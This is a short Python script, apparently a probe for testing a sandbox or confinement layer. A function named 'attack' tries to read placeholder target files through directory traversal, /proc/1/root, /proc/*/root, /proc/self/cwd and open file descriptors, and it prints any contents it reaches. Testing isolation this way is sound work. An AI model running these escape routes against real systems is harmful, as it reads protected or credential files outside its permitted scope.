"""Reads what is not its own: the files PATHS, by their names and by other ways to the root."""
import glob
import os

PATHS = '@PATHS@'


def attack():
    ways = ['', '../' * 40, '/proc/1/root', '/proc/self/cwd/' + '../' * 40]
    ways += glob.glob('/proc/*/root') + glob.glob('/proc/self/fd/*')
    for path in PATHS:
        for way in ways:
            try:
                with open(way + path if not way.endswith('/') else way + path.lstrip('/'), 'rb') as file:
                    os.write(1, b'REACHED ' + file.read(10_000) + b'\n')
            except OSError:
                continue


attack()
